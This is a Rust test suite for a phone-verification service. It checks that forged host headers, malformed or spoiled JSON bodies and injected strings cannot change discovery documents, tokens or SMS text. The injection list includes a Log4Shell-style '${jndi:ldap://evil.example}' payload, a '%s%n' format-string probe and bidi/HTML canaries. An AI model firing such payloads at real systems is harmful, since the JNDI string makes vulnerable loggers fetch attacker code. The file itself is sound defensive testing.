//! Forged host headers, hostile bodies, and content that tries to get into a text.

use http::Method;
use phoneproof_tests::{World, jwt_part, malformed_bodies, phone};
use serde_json::{Value, json};

use crate::attacks::address;
use crate::attacks::callers::KEY_SHA256;

#[tokio::test]
async fn forged_host() {
    let world = World::start().await;
    let documents = [
        "/.well-known/openid-configuration",
        "/.well-known/jwks.json",
        "/openapi.json",
        "/v1/policy",
    ];
    let mut before = Vec::new();
    for path in documents {
        before.push(world.client.get(path).await.text);
    }
    for (n, host) in ["evil.example", "evil.example:443", "127.0.0.1.evil.example"]
        .into_iter()
        .enumerate()
    {
        let headers = [
            ("host", host),
            ("x-forwarded-host", host),
            ("x-original-url", "https://evil.example/"),
            ("forwarded", "host=evil.example"),
            ("content-type", "application/json"),
        ];
        for (path, before) in documents.iter().zip(&before) {
            let answer = world
                .client
                .raw(Method::GET, path, &headers, Vec::new())
                .await;
            assert_eq!(&answer.text, before, "{host} {path}");
        }
        let number = phone(u32::try_from(n).expect("small"));
        let body = json!({ "phone": number, "uniqueId": "d", "businessId": "login" });
        let body = body.to_string().into_bytes();
        let sent = world
            .client
            .raw(Method::POST, "/v1/send", &headers, body)
            .await;
        let verify = json!({ "token": sent.token(), "code": world.code(&number) });
        let verify = verify.to_string().into_bytes();
        let verified = world
            .client
            .raw(Method::POST, "/v1/verify", &headers, verify)
            .await;
        assert_eq!(jwt_part(&verified.token(), 1)["iss"], world.stack.url);
        let text = &world.texts(&number)[0].body;
        for answer in [&sent.text, &verified.text, text] {
            assert!(!answer.contains("evil"), "{answer}");
        }
    }
}

/// The routes that read a body, each with a well-formed body.
fn routes() -> Vec<(&'static str, Value)> {
    let (password, number) = ("green mountains at noon", phone(1));
    let send = json!({
        "phone": number, "uniqueId": "d", "businessId": "register", "region": "US", "locale": "en",
        "action": "pay", "token": "t", "userAddress": "198.51.100.7", "attestation": "a",
    });
    let log_in = json!({
        "phone": number, "region": "US", "password": password, "token": "t", "device": "d",
    });
    vec![
        ("/v1/send", send),
        ("/v1/verify", json!({ "token": "t", "code": "123456" })),
        ("/v1/spend", json!({ "token": "t", "audience": "login" })),
        (
            "/account/v1/accounts",
            json!({ "token": "t", "password": password, "secondStep": true }),
        ),
        ("/account/v1/sessions", log_in),
        (
            "/account/v1/sessions/refresh",
            json!({ "refreshToken": "r" }),
        ),
        (
            "/account/v1/password-reset",
            json!({ "token": "t", "password": password }),
        ),
    ]
}

/// Spoils `good` in every way: each field twice, each field but `locale` with each other JSON type, and an unknown
/// field.
fn spoil(good: &Value) -> Vec<Vec<u8>> {
    let mut bodies = Vec::new();
    for (name, value) in good.as_object().expect("an object") {
        let twice = good
            .to_string()
            .replacen('{', &format!("{{\"{name}\":{value},"), 1);
        bodies.push(twice.into_bytes());
        // A hint and a label, in whatever form.
        if ["locale", "device"].contains(&name.as_str()) {
            continue;
        }
        let mut odd = vec![json!(1), json!([value]), json!({ "a": value })];
        odd.push(if value.is_boolean() {
            json!("true")
        } else {
            json!(true)
        });
        for odd in odd {
            let mut body = good.clone();
            body[name] = odd;
            bodies.push(body.to_string().into_bytes());
        }
    }
    let mut more = good.clone();
    more["isAdmin"] = json!(true);
    bodies.push(more.to_string().into_bytes());
    bodies
}

/// Sends a body with each content type and asserts that every answer is a refusal. Returns the number of answers.
async fn assert_refused(world: &World, path: &str, body: &[u8], problems: &[&str]) -> usize {
    let content_types = ["application/json", "text/plain", ""];
    for content_type in content_types {
        let headers = [("content-type", content_type)];
        let answer = world
            .client
            .raw(Method::POST, path, &headers, body.to_vec())
            .await;
        let shown: String = String::from_utf8_lossy(body).chars().take(90).collect();
        let why = format!("{path} {shown}: {} {}", answer.status, answer.text);
        assert!((400..500).contains(&answer.status), "{why}");
        let json = answer.header("content-type") == Some("application/problem+json");
        assert!(json && answer.json["type"].is_string(), "{why}");
        if content_type == "application/json" {
            assert!(problems.contains(&answer.problem()), "{why}");
        }
    }
    content_types.len()
}

#[tokio::test]
async fn hostile_bodies() {
    // Only a business with a client key lets its callers name an address.
    let keyed = format!("[business.register]\nclient_key_sha256 = \"{KEY_SHA256}\"\n");
    let world = World::builder().policy("[business.register]\n", &keyed);
    let world = world.proxied().start().await;
    for (path, good) in routes() {
        // The route must understand the good body and refuse only its token or its key. Otherwise the refusals below
        // prove nothing.
        let understood = world.client.post(path, &good).await;
        assert_ne!(understood.problem(), "malformed", "{}", understood.text);
        assert!((400..500).contains(&understood.status), "{path}");
    }
    let (mut count, written) = (0, world.count("AccountLimits").await);
    drop(world.proxy().take_calls());
    for (path, good) in routes() {
        for (_, body) in malformed_bodies() {
            let problems = ["malformed", "too-large"];
            count += assert_refused(&world, path, &body, &problems).await;
        }
        for body in spoil(&good) {
            count += assert_refused(&world, path, &body, &["malformed"]).await;
        }
    }
    assert_eq!(count, 1_155);
    assert!(
        world.proxy().take_calls().is_empty(),
        "something was looked up or written"
    );
    assert_eq!(world.count("AccountLimits").await, written);
    assert_eq!((world.item_count().await, world.text_count()), (0, 0));
    assert_eq!(
        world.client.send(&phone(1)).await.status,
        202,
        "it still serves"
    );
}

const INJECTED: [&str; 8] = [
    "evil.example/pay",
    "{code}",
    "{brand}",
    "%s%n",
    "\n@evil.example #000000",
    "\u{202e}evil",
    "${jndi:ldap://evil.example}",
    "<b>evil</b>",
];

#[tokio::test]
async fn content_injection() {
    let world = World::start().await;
    let good = json!({ "uniqueId": "d", "businessId": "login" });
    let mut texted = 0;
    for (n, canary) in INJECTED.into_iter().enumerate() {
        for (m, field) in ["businessId", "locale", "action", "uniqueId", "region"]
            .into_iter()
            .enumerate()
        {
            let number = phone(u32::try_from(10 * n + m).expect("small"));
            let mut body: Value = good.clone();
            body["phone"] = json!(number);
            body["uniqueId"] = json!(format!("d{n}{m}"));
            body[field] = json!(canary);
            let source = address(10 * n + m);
            // A header cannot hold every character, so the headers carry the printable ones.
            let printable: String = canary.chars().filter(|c| (' '..='~').contains(c)).collect();
            let headers = [
                ("x-test-source-ip", source.as_str()),
                ("accept-language", printable.as_str()),
                ("user-agent", printable.as_str()),
                ("referer", printable.as_str()),
                ("idempotency-key", "key"),
            ];
            let answer = world.client.post_with("/v1/send", &body, &headers).await;
            assert!(matches!(answer.status, 202 | 400), "{}", answer.text);
            for text in world.texts(&number) {
                let code = world.code(&number);
                let expected = format!(
                    "{code} is your Example login code. It works for 5 minutes. Never share it."
                );
                assert_eq!(text.body, expected, "{field} {canary:?}");
                texted += 1;
            }
        }
    }
    assert!(texted >= 8, "{texted} texts were compared");
}

/// Where texts show the action, a caller chooses among the labels of the policy and adds nothing to them.
#[tokio::test]
async fn content_injection_by_the_action() {
    let template =
        "{code} is your {brand} login code. It works for {minutes} minutes. Never share it.";
    let labels = "\n[business.login.actions]\npay.en = \"pay\"\nother.en = \"confirm\"\n";
    let world = World::builder()
        .policy(template, "{code} to {action}. Never share it.")
        .policy_addition(labels)
        .start()
        .await;
    let mut texted = 0;
    for (n, canary) in INJECTED.into_iter().enumerate() {
        let forms = [
            (canary.to_owned(), "confirm"),
            (format!("pay:{canary}"), "pay"),
            (format!("pay {canary}"), "confirm"),
            (format!("{canary}:pay"), "confirm"),
            (format!("other:{canary}"), "confirm"),
        ];
        for (m, (action, label)) in forms.into_iter().enumerate() {
            let number = phone(u32::try_from(10 * n + m).expect("small"));
            let body = json!({
                "phone": number, "uniqueId": format!("d{n}{m}"), "businessId": "login", "action": action,
            });
            let source = address(10 * n + m);
            let headers = [("x-test-source-ip", source.as_str())];
            let answer = world.client.post_with("/v1/send", &body, &headers).await;
            // An action with control characters is malformed, so nothing is texted.
            let expected = if action.chars().any(char::is_control) {
                400
            } else {
                202
            };
            assert_eq!(answer.status, expected, "{action:?}: {}", answer.text);
            for text in world.texts(&number) {
                let code = world.code(&number);
                assert_eq!(
                    text.body,
                    format!("{code} to {label}. Never share it."),
                    "{action:?}"
                );
                texted += 1;
            }
        }
    }
    assert_eq!(texted, 35, "7 of the 8 canaries in 5 places");
}

/// A person dials abroad with the prefix of their own country. Nobody else gets the text.
///
/// Each number is the one that Google's library reads. `tests/differential/phones.py` compares it for every region.
#[tokio::test]
async fn redirection_by_an_international_prefix() {
    // The number of the third line is one of Guernsey.
    let world = World::builder()
        .policy("countries = [\"US\", ", "countries = [\"GG\", \"US\", ")
        .start()
        .await;
    let dialled = [
        ("0011 65 9234 5678", "AU", Some("+6592345678")),
        ("0011 1 415 200 9001", "AU", Some("+14152009001")),
        ("0011 44 7911 123456", "AU", Some("+447911123456")),
        ("001 65 9345 6782", "HK", Some("+6593456782")),
        ("0014152007986", "GB", Some("+14152007986")),
        ("011 44 7911 123457", "US", Some("+447911123457")),
        // Bangladesh and Thailand are not served, but people there may have numbers elsewhere.
        ("0017183831111", "BD", Some("+17183831111")),
        ("001 65 9345 6783", "TH", Some("+6593456783")),
        // Without a region nobody can know the prefix.
        ("0011 65 9234 5678", "", None),
        ("001 65 9345 6782", "", None),
        ("0014152007986", "", None),
    ];
    let mut expected = 0;
    for (n, (typed, region, number)) in dialled.into_iter().enumerate() {
        let mut body =
            json!({ "phone": typed, "uniqueId": format!("d{n}"), "businessId": "login" });
        if !region.is_empty() {
            body["region"] = json!(region);
        }
        let source = address(n);
        let from = [("x-test-source-ip", source.as_str())];
        world.advance(60);
        let answer = world.client.post_with("/v1/send", &body, &from).await;
        let status = if number.is_some() { 202 } else { 400 };
        assert_eq!(
            answer.status, status,
            "{typed} in {region}: {}",
            answer.text
        );
        expected += usize::from(number.is_some());
        assert_eq!(world.text_count(), expected, "{typed} in {region}");
        if let Some(number) = number {
            assert!(!world.texts(number).is_empty(), "{typed} in {region}");
        }
    }
    assert!(world.texts("+16592345678").is_empty());
}
